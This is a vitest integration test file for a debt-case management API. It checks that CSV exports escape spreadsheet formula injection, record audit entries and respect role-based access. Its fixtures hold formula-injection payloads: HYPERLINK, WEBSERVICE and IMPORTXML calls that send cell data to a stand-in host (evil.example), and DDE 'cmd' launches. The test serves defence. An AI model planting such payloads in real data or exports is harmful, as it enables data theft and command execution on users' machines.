import { addDays, calendarDateIn } from '@accord/domain';
import { seedCreditorCatalog } from '@accord/server-creditors';
import { bearer, signIn, TEST_PASSWORD } from '@accord/server-testing';
import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { beforeAll, describe, expect, it } from 'vitest';
import { useApiApp } from './support/api-app';
import { catalogCreditors, openCase } from './support/cases';
import { buildFirm, type Member, type TestFirm } from './support/firm';
import { submittedProposal } from './support/proposals';

const api = useApiApp('exports');
const db = () => api.app.get(DataSource);
let firm: TestFirm;
let huabei: string;
/** An officer of team A whose own name is a formula. */
let formulaOfficer: Member;
let seq = 61000;

/** What people typed into names, meant to run when the file is opened in a spreadsheet. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"查看")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
];
const OFFICER_NAME = '=WEBSERVICE("http://evil.example/")';
const CREDITOR_NAME = '@IMPORTXML("http://evil.example/","//a")';
const OTHER_TEAM_CREDITOR = '乙組專屬銀行';
/** Each officer's own client, to tell from a file whose cases are in it. */
const OWN_CLIENT = { a1: '甲一客戶', a2: '甲二客戶', b1: '乙一客戶' };

/** A file as a spreadsheet reads it: header and rows of cells. */
function cellsOf(text: string): { header: string[]; rows: string[][] } {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [header, ...rows] = parse(text.slice(1), { relaxColumnCount: true }) as string[][];
  return { header, rows };
}

const exportOf = (path: string, member: Member, query: Record<string, string> = {}) =>
  api
    .http()
    .get(`/api/${path}`)
    .query({ locale: 'en', ...query })
    .set(member.auth);

async function negotiatingDebt(owner: Member, creditorId: string, fullName: string) {
  const opened = await openCase(api, owner, {
    serial: seq++,
    fullName,
    debts: [{ creditorId, outstandingFen: 123456 }],
    moveTo: ['documents', 'creditor_contact', 'negotiating'],
  });
  return opened.debtIds[0];
}

beforeAll(async () => {
  firm = await buildFirm(api);
  await seedCreditorCatalog(db());
  // The factory names every officer alike; the workload file is told apart by name.
  for (const [member, name] of [
    [firm.officerA1, '甲一承辦'],
    [firm.officerA2, '甲二承辦'],
    [firm.officerB1, '乙一承辦'],
  ] as const)
    await db().query(`UPDATE users SET full_name = $2 WHERE id = $1`, [member.user.id, name]);
  ({ huabei } = await catalogCreditors(api, firm.admin));

  const officer = await api
    .http()
    .post('/api/users')
    .set(firm.admin.auth)
    .send({
      email: 'formula.officer@accord.test',
      fullName: OFFICER_NAME,
      role: 'officer',
      teamId: firm.teamA,
      password: TEST_PASSWORD,
    })
    .expect(201);
  // An admin-made account starts with the admin's password; this test is not about choosing one's own.
  await db().query(`UPDATE users SET must_change_password = false WHERE id = $1`, [officer.body.id]);
  const token = await signIn(api.app, 'formula.officer@accord.test');
  formulaOfficer = { user: { ...officer.body, teamId: firm.teamA }, token, auth: bearer(token) };
  for (const name of FORMULAS)
    await openCase(api, formulaOfficer, {
      serial: seq++,
      fullName: name,
      debts: [{ creditorId: huabei, outstandingFen: 250050, overdueSince: addDays(today(), -40) }],
    });

  const creditor = (name: string) =>
    api
      .http()
      .post('/api/creditors')
      .set(firm.admin.auth)
      .send({ name, product: 'credit_card', penaltyDailyRatePpm: 500 })
      .expect(201)
      .then((r) => r.body.id as string);
  const formulaCreditor = await creditor(CREDITOR_NAME);
  const otherTeamCreditor = await creditor(OTHER_TEAM_CREDITOR);
  await submittedProposal(api, firm.officerA1, {
    debtId: await negotiatingDebt(firm.officerA1, formulaCreditor, OWN_CLIENT.a1),
    kind: 'lump_sum',
    totalFen: 100000,
  });
  await submittedProposal(api, firm.officerB1, {
    debtId: await negotiatingDebt(firm.officerB1, otherTeamCreditor, OWN_CLIENT.b1),
    kind: 'lump_sum',
    totalFen: 100000,
  });
  await openCase(api, firm.officerA2, {
    serial: seq++,
    fullName: OWN_CLIENT.a2,
    debts: [{ creditorId: huabei, outstandingFen: 1000 }],
  });
});

const today = () => calendarDateIn(new Date(), 'Asia/Taipei');

describe('CSV formula injection', () => {
  it('writes client and officer names that start with = + - @ as text in the case export, amounts as numbers', async () => {
    const { header, rows } = cellsOf((await exportOf('cases/export', formulaOfficer).expect(200)).text);
    const column = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(FORMULAS.length);
    const clients = rows.map((r) => r[column('Client')]).sort();
    expect(clients).toEqual(FORMULAS.map((name) => `'${name}`).sort());
    for (const row of rows) {
      expect(row[column('Officer')]).toBe(`'${OFFICER_NAME}`);
      expect(row[column('Outstanding')]).toBe('2500.50');
      expect(row[column('Overdue')]).toBe('2500.50');
      expect(row[column('Max days overdue')]).toMatch(/^\d+$/);
    }
  });

  it('writes an officer named as a formula as text in the workload export', async () => {
    const { rows } = cellsOf((await exportOf('workload/export', firm.managerA).expect(200)).text);
    const officerRow = rows.find((r) => r[0] === `'${OFFICER_NAME}`);
    // Open cases and the five intake cases stay numbers, not text.
    expect(officerRow?.slice(1, 3)).toEqual(['5', '5']);
    expect(rows.some((r) => r[0] === OFFICER_NAME)).toBe(false);
  });

  it('writes a creditor named as a formula as text in the creditor report export', async () => {
    const { rows } = cellsOf((await exportOf('reports/creditors/export', firm.managerA).expect(200)).text);
    expect(rows.map((r) => r[0])).toEqual([`'${CREDITOR_NAME}`]);
    expect(rows[0].slice(1, 5)).toEqual(['CNY', '1', '0', '0']);
  });
});

describe('audit of exports', () => {
  const lastAudit = async (action: string, actorId: string) =>
    (
      await db().query(
        `SELECT details, ip, request_id FROM audit_log WHERE action = $1 AND actor_id = $2 ORDER BY id DESC LIMIT 1`,
        [action, actorId],
      )
    )[0];

  it('records each export with its filters and the number of rows in the file', async () => {
    const cases = cellsOf(
      (await exportOf('cases/export', firm.managerA, { stage: 'intake', q: '甲二' }).expect(200)).text,
    );
    expect(cases.rows).toHaveLength(1);
    const caseAudit = await lastAudit('cases.exported', firm.managerA.user.id);
    expect(caseAudit.details).toEqual({
      filters: { stage: 'intake', q: '甲二', sort: 'openedOn', order: 'ASC', locale: 'en' },
      rows: 1,
    });
    expect(caseAudit.request_id).toBeTruthy();

    const from = addDays(today(), -6);
    const workload = cellsOf(
      (await exportOf('workload/export', firm.admin, { teamId: firm.teamB, from }).expect(200)).text,
    );
    expect((await lastAudit('workload.exported', firm.admin.user.id)).details).toEqual({
      filters: { teamId: firm.teamB, from, to: today(), locale: 'en' },
      rows: workload.rows.length,
    });
    expect(workload.rows).toHaveLength(2);

    const creditors = cellsOf(
      (await exportOf('reports/creditors/export', firm.managerB, { locale: 'zh-TW' }).expect(200)).text,
    );
    expect((await lastAudit('creditor_report.exported', firm.managerB.user.id)).details).toEqual({
      filters: { teamId: firm.teamB, from: addDays(today(), -29), to: today(), locale: 'zh-TW' },
      rows: creditors.rows.length,
    });
    expect(creditors.rows).toHaveLength(1);
  });

  it('records nothing for an export refused by role, scope or validation', async () => {
    const [{ n: before }] = await db().query(
      `SELECT count(*)::int AS n FROM audit_log WHERE action LIKE '%.exported'`,
    );
    await exportOf('workload/export', firm.officerA1).expect(403);
    await exportOf('reports/creditors/export', firm.managerA, { teamId: firm.teamB }).expect(404);
    await exportOf('cases/export', firm.officerA1, { stage: 'nowhere' }).expect(400);
    await exportOf('workload/export', firm.admin, { from: today(), to: addDays(today(), -1) }).expect(422);
    const [{ n: after }] = await db().query(
      `SELECT count(*)::int AS n FROM audit_log WHERE action LIKE '%.exported'`,
    );
    expect(after).toBe(before);
  });
});

describe('who may export what', () => {
  const clientsIn = async (member: Member, query: Record<string, string> = {}) => {
    const { header, rows } = cellsOf((await exportOf('cases/export', member, query).expect(200)).text);
    return rows.map((r) => r[header.indexOf('Client')]);
  };
  const firstColumn = async (path: string, member: Member, query: Record<string, string> = {}) =>
    cellsOf((await exportOf(path, member, query).expect(200)).text).rows.map((r) => r[0]);

  it('cases: an officer their own, a manager their team, an admin the firm', async () => {
    const officer = await clientsIn(firm.officerA1);
    expect(officer).toEqual([OWN_CLIENT.a1]);
    // Naming another officer's cases narrows the file to nothing; it never widens it.
    expect(await clientsIn(firm.officerA1, { officerId: firm.officerB1.user.id })).toEqual([]);
    expect(await clientsIn(firm.officerA1, { officerId: firm.officerA2.user.id })).toEqual([]);

    const manager = await clientsIn(firm.managerA);
    expect(manager).toHaveLength(2 + FORMULAS.length);
    expect(manager).toEqual(expect.arrayContaining([OWN_CLIENT.a1, OWN_CLIENT.a2]));
    expect(manager).not.toContain(OWN_CLIENT.b1);
    expect(await clientsIn(firm.managerA, { officerId: firm.officerB1.user.id })).toEqual([]);
    expect(await clientsIn(firm.managerB)).toEqual([OWN_CLIENT.b1]);

    const admin = await clientsIn(firm.admin);
    expect(admin).toHaveLength(3 + FORMULAS.length);
    expect(admin).toEqual(expect.arrayContaining(Object.values(OWN_CLIENT)));
  });

  it('workload: officers none, a manager their team only, an admin the firm or any one team', async () => {
    await exportOf('workload/export', firm.officerA1).expect(403);
    await exportOf('workload/export', formulaOfficer).expect(403);
    const officersOf = (member: Member, query?: Record<string, string>) =>
      firstColumn('workload/export', member, query).then((names) => names.slice(0, -1));
    const nameOf = async (member: Member) =>
      (await db().query(`SELECT full_name FROM users WHERE id = $1`, [member.user.id]))[0]
        .full_name as string;
    const [a1, a2, b1] = await Promise.all([firm.officerA1, firm.officerA2, firm.officerB1].map(nameOf));

    const teamA = await officersOf(firm.managerA);
    expect(teamA).toHaveLength(3);
    expect(teamA).toEqual(expect.arrayContaining([a1, a2, `'${OFFICER_NAME}`]));
    expect(teamA).not.toContain(b1);
    const refused = await exportOf('workload/export', firm.managerA, { teamId: firm.teamB }).expect(404);
    expect(refused.body.code).toBe('NOT_FOUND');

    expect(await officersOf(firm.admin)).toHaveLength(4);
    expect(await officersOf(firm.admin, { teamId: firm.teamB })).toEqual([b1]);
  });

  it("creditor report: officers none, a manager their team's proposals only, an admin the firm", async () => {
    await exportOf('reports/creditors/export', firm.officerB1).expect(403);
    expect(await firstColumn('reports/creditors/export', firm.managerA)).toEqual([`'${CREDITOR_NAME}`]);
    expect(await firstColumn('reports/creditors/export', firm.managerB)).toEqual([OTHER_TEAM_CREDITOR]);
    await exportOf('reports/creditors/export', firm.managerB, { teamId: firm.teamA }).expect(404);
    expect((await firstColumn('reports/creditors/export', firm.admin)).sort()).toEqual(
      [`'${CREDITOR_NAME}`, OTHER_TEAM_CREDITOR].sort(),
    );
    expect(await firstColumn('reports/creditors/export', firm.admin, { teamId: firm.teamA })).toEqual([
      `'${CREDITOR_NAME}`,
    ]);
  });
});
